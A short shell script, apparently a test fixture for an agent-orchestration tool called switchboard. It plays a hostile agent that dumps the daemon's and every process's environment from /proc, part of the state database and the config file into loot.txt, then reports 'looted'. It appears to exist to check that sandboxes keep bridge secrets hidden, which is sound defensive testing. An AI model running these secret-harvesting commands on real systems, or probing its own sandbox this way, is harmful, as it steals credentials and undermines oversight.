#!/bin/sh
# Attack: collect whatever bridge secret it can read into loot.txt in its
# worktree: the daemon's environment, every process's environment, the
# state database (next to the agent socket) and the config file ($1).
state=$(dirname "$SWITCHBOARD_SOCKET")
{
	echo "== ppid $PPID"
	tr '\0' '\n' < /proc/$PPID/environ
	for f in /proc/[0-9]*/environ; do
		echo "== $f"
		tr '\0' '\n' < "$f"
	done
	echo "== db"
	head -c 16 "$state/switchboard.db"
	echo
	echo "== config"
	cat "$1"
} > loot.txt 2>/dev/null
"$SWITCHBOARD_BIN" agent done "looted"
